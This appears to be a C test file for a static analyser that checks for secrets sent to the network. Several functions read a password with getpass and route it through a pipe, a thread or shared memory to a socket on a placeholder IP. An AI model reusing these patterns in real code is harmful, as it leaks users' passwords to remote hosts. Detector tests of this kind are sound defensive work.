/* The secret is put there after whoever sends it has begun: a pipe, a thread, shared memory. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(const char *address) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(443)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    peer.sin_addr.s_addr = inet_addr(address);
    return connect(s, (struct sockaddr *)&peer, sizeof peer) ? -1 : s;
}

/* A child at the other end of a pipe. */
static int to_child = -1;

static void bad_child(int from) {
    char line[128];
    ssize_t n;
    int s = dial("203.0.113.9");
    while ((n = read(from, line, sizeof line)) > 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(s, line, (size_t)n, 0);
    _exit(0);
}

static void start_child(void) {
    int ends[2];
    if (pipe(ends))
        return;
    if (fork() == 0)
        bad_child(ends[0]);
    to_child = ends[1];
}

int log_in_beside_child(void) {
    start_child();
    char *word = getpass("Password: ");
    return write(to_child, word, strlen(word)) < 0;
}

/* A thread that waits for more. */
struct outbox {
    pthread_mutex_t lock;
    pthread_cond_t more;
    char text[128];
    int ready, socket;
};

static void *bad_courier(void *argument) {
    struct outbox *box = argument;
    for (;;) {
        pthread_mutex_lock(&box->lock);
        while (!box->ready)
            pthread_cond_wait(&box->more, &box->lock);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(box->socket, box->text, strlen(box->text), 0);
        box->ready = 0;
        pthread_mutex_unlock(&box->lock);
    }
}

static void post(struct outbox *box, const char *text) {
    pthread_mutex_lock(&box->lock);
    snprintf(box->text, sizeof box->text, "%s", text);
    box->ready = 1;
    pthread_cond_signal(&box->more);
    pthread_mutex_unlock(&box->lock);
}

void log_in_beside_thread(void) {
    pthread_t thread;
    struct outbox *box = calloc(1, sizeof *box);
    box->socket = dial("203.0.113.10");
    pthread_create(&thread, NULL, bad_courier, box);
    post(box, getpass("Password: "));
}

/* Memory that a child shares. */
static void bad_watcher(const char *board) {
    int s = dial("203.0.113.11");
    for (;; sleep(5))
        if (*board)
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
            send(s, board, 64, 0);
}

void log_in_beside_watcher(void) {
    char *board = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (board == MAP_FAILED)
        return;
    if (fork() == 0)
        bad_watcher(board);
    strncpy(board, getpass("Password: "), 63);
}

/* The same, and what is told is that somebody logs in. */
static void *good_courier(void *argument) {
    struct outbox *box = argument;
    for (;;) {
        pthread_mutex_lock(&box->lock);
        while (!box->ready)
            pthread_cond_wait(&box->more, &box->lock);
        send(box->socket, box->text, strlen(box->text), 0);
        box->ready = 0;
        pthread_mutex_unlock(&box->lock);
    }
}

int log_in_beside_good_thread(const char *stored) {
    pthread_t thread;
    struct outbox *box = calloc(1, sizeof *box);
    box->socket = dial("203.0.113.12");
    pthread_create(&thread, NULL, good_courier, box);
    int same = strcmp(getpass("Password: "), stored) == 0;
    post(box, same ? "logged in" : "refused");
    return same;
}

/* The word goes through a pipe to a child that checks it, and what it answers is sent. */
static void good_checker(int from, int to, const char *stored) {
    char word[128];
    ssize_t n = read(from, word, sizeof word - 1);
    word[n > 0 ? n : 0] = '\0';
    _exit(write(to, strcmp(word, stored) ? "no" : "ok", 2) != 2);
}

void log_in_with_checker(const char *stored) {
    int ask[2], answer[2];
    char result[2];
    if (pipe(ask) || pipe(answer))
        return;
    if (fork() == 0)
        good_checker(ask[0], answer[1], stored);
    char *word = getpass("Password: ");
    if (write(ask[1], word, strlen(word)) > 0 && read(answer[0], result, 2) == 2)
        send(dial("203.0.113.13"), result, 2, 0);
}
